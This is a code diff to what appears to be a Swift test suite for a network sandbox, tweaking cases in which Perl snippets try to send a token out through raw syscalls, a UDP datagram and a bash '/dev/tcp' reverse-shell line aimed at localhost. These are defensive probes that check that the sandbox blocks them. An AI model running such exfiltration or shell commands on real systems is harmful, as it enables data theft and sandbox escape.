@@ -40,7 +40,7 @@ struct NetworkBypasses {
                 syscall(44, fileno($s), $token, length $token, 0x20000000, $to, 16) > 0 ? "sent" : "error $!"
                 """#),
             code.sends(
-                "N11", "reverse-shell", "bash with /dev/tcp",
+                "N11", "reverse-shell", "bash with /dev/tcp", stoppedAs: .exec,
                 #"captured("", sub { exec "/bin/bash", "-c", "echo $token >/dev/tcp/127.0.0.1/$port"; "error $!" })"#),
         ]
     }
@@ -70,7 +70,7 @@ struct NetworkBypasses {
                 my $datagram = pack("nnnn", 40000, $port, 8 + length $token, 0) . $token;
                 send($s, $datagram, 0, in4(0)) ? "sent" : "error $!"
                 """#
-            ).notCovered(Self.unaddressed)
+            ).notCovered(in: [.signal], Self.unaddressed)
         ]
     }
 
@@ -101,7 +101,8 @@ struct NetworkBypasses {
                             syswrite($s, "\#($0)"); "sent"
                             """#, in: target)
                     }
-                })
+                }
+            ).withoutTwin("a socket that was bound outside of the container has no name in it")
         ]
     }
 }
